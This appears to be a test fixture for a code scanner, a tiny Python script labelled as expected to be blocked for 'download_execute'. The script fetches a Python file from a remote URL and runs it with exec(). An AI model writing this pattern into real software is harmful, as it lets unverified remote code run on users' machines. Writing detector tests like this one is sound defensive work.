# expect: BLOCKED download_execute
import requests


def load_plugin(url):
    response = requests.get(url)
    response.raise_for_status()
    namespace = {}
    exec(response.content, namespace)
    return namespace


plugin = load_plugin("http://plugins.example.com/p.py")
plugin["run"]()
